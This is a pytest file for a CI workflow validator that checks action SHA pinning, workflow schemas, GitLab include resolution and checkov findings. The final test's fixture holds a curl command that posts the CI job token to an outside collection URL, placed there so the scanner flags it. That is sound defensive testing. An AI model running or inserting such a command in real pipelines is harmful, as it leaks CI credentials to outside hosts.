"""The CI-definition validators on workflows written here."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from generator.cli import cli
from generator.validators.pipelines import gitlab_files, unpinned
from tests.conftest import require_tool

SHA = "11bd71901bbe5b1630ceea73d27597364c9af683"

GOOD = f"""
name: checks
on: [pull_request]
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/checkout@{SHA} # v4.2.2
      - uses: ./.github/actions/local
      - run: make test
"""


@pytest.mark.parametrize(
    ("ref", "is_unpinned"),
    [
        (f"actions/checkout@{SHA}", False),
        ("actions/checkout@v4", True),
        ("actions/checkout@main", True),
        (f"actions/checkout@{SHA[:12]}", True),
        ("./.github/actions/local", False),
        ("docker://alpine:3.20", True),
        ("docker://alpine@sha256:" + "a" * 64, False),
        (f"acme/workflows/.github/workflows/deploy.yml@{SHA}", False),
    ],
)
def test_pinning_rule(ref: str, is_unpinned: bool) -> None:
    assert unpinned(ref) is is_unpinned


def _repo(tmp_path: Path, workflow: str) -> Path:
    folder = tmp_path / "repo" / ".github" / "workflows"
    folder.mkdir(parents=True)
    (folder / "checks.yml").write_text(workflow)
    return tmp_path / "repo"


def _statuses(repo: Path, only: str) -> dict[str, dict[str, str]]:
    result = CliRunner().invoke(cli, ["validate", str(repo), "--only", only, "--format", "json"])
    return {v["name"]: v for v in json.loads(result.stdout)["validators"]}


def test_pinned_workflow_passes_schema_and_pinning(tmp_path: Path) -> None:
    found = _statuses(_repo(tmp_path, GOOD), "ci-schema,ci-pinning")
    assert found["ci-schema"]["status"] == "passed", found
    assert found["ci-pinning"]["status"] == "passed"
    assert found["ci-pinning"]["summary"] == "2 action reference(s), 0 unpinned"


def test_tag_reference_is_reported(tmp_path: Path) -> None:
    found = _statuses(_repo(tmp_path, GOOD.replace(f"@{SHA}", "@v4")), "ci-pinning")
    assert found["ci-pinning"]["status"] == "failed"
    assert "actions/checkout@v4 is not pinned to a commit SHA" in found["ci-pinning"]["details"]


def test_schema_violation_is_reported(tmp_path: Path) -> None:
    found = _statuses(
        _repo(tmp_path, GOOD.replace("runs-on: ubuntu-24.04", "runs-on: 42\n    timeout: soon")),
        "ci-schema",
    )
    assert found["ci-schema"]["status"] == "failed"


def test_gitlab_files_follow_the_local_includes_wherever_they_are(tmp_path: Path) -> None:
    (tmp_path / "ci" / "gitlab").mkdir(parents=True)
    (tmp_path / "pipelines").mkdir()
    for name in (
        "ci/gitlab/checks.yml",
        "ci/gitlab/deploy.yml",
        "pipelines/extra.yml",
        "unused.yml",
    ):
        (tmp_path / name).write_text("job:\n  script: [true]\n")
    (tmp_path / ".gitlab-ci.yml").write_text(
        "include:\n"
        "  - local: ci/gitlab/*.yml\n"
        "  - /pipelines/extra.yml\n"
        "  - remote: https://example.com/shared.yml\n"
        "  - project: group/templates\n"
        "    file: /base.yml\n"
    )
    found = [p.relative_to(tmp_path).as_posix() for p in gitlab_files(tmp_path)]
    assert found == [
        ".gitlab-ci.yml",
        "ci/gitlab/checks.yml",
        "ci/gitlab/deploy.yml",
        "pipelines/extra.yml",
    ]
    (tmp_path / ".gitlab-ci.yml").write_text("include: ci/gitlab/checks.yml\n")
    assert [p.name for p in gitlab_files(tmp_path)] == [".gitlab-ci.yml", "checks.yml"]
    assert gitlab_files(tmp_path / "nowhere") == []


def test_checkov_scans_the_included_gitlab_files_and_names_them(tmp_path: Path) -> None:
    require_tool("checkov")
    (tmp_path / "ci").mkdir()
    (tmp_path / ".gitlab-ci.yml").write_text("include:\n  - local: ci/jobs.yml\n")
    (tmp_path / "ci" / "jobs.yml").write_text(
        'leak:\n  script:\n    - curl -d "$CI_JOB_TOKEN" https://example.com/collect\n'
    )
    found = _statuses(tmp_path, "checkov-ci")["checkov-ci"]
    assert found["status"] == "failed"
    assert "CKV_GITLABCI_1" in found["details"]
    assert "(ci/jobs.yml:3-4)" in found["details"]
